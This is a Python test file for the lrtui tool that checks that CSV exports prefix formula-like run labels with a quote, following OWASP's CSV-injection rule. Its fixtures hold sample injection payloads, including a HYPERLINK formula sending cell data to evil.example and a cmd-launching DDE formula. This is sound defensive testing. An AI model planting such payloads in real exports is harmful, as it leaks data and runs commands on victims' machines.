"""Issue 15, finding 5: a label that a spreadsheet would run as a formula is written as plain text (OWASP's
rule for CSV injection: a quote before a text cell that starts with =, +, -, @, tab or CR), both by
`lrtui run --format csv` and by the app's `e` export, which share the code."""

from __future__ import annotations

import csv
import io
import json

import pytest

from lrtui.cli import main
from lrtui.export import text_cell
from lrtui.scenario.loader import parse_scenario
from lrtui.tui.saving import export_runs
from lrtui.tui.session import Session

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
SCENARIO = """\
name = "formulas"
steps = 3

[loss]
type = "quadratic"
eigenvalues = [1.0, 10.0]

[optimizer]
type = "sgd"
lr = 0.05
{runs}
"""


def scenario_text(labels) -> str:
    runs = "".join(f"\n[[runs]]\nlabel = {json.dumps(label)}\n" for label in labels)
    return SCENARIO.format(runs=runs)


def labels_in(text: str) -> list[str]:
    seen = []
    for row in csv.DictReader(io.StringIO(text)):
        if row["label"] not in seen:
            seen.append(row["label"])
    return seen


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "\\tx"), ("\r=1", "\\r=1"),
    ("sgd lr=0.1", "sgd lr=0.1"), ("a=b", "a=b"), ("", ""),
])
def test_text_cells_cannot_start_a_formula(value, cell):
    assert text_cell(value) == cell


def test_run_csv_quotes_formula_labels(tmp_path, capsys):
    path = tmp_path / "formulas.toml"
    path.write_text(scenario_text(FORMULAS + ["plain label"]))
    assert main(["run", str(path), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert labels_in(out) == ["'" + label for label in FORMULAS] + ["plain label"]
    # Numbers stay numbers: a negative value in a number column is not text and is left as it is.
    assert all(not cell.startswith("'") for row in csv.reader(io.StringIO(out)) for cell in row[2:])


def test_the_apps_export_quotes_formula_labels(tmp_path):
    scenario = parse_scenario(scenario_text(FORMULAS), "formulas.toml")
    session = Session([scenario])
    session.experiment.step(3)
    csv_path, json_path = export_runs(session, tmp_path)
    assert labels_in(csv_path.read_text()) == ["'" + label for label in FORMULAS]
    # JSON is not opened by spreadsheets: it keeps the labels exactly.
    assert [run["label"] for run in json.loads(json_path.read_text())["runs"]] == FORMULAS
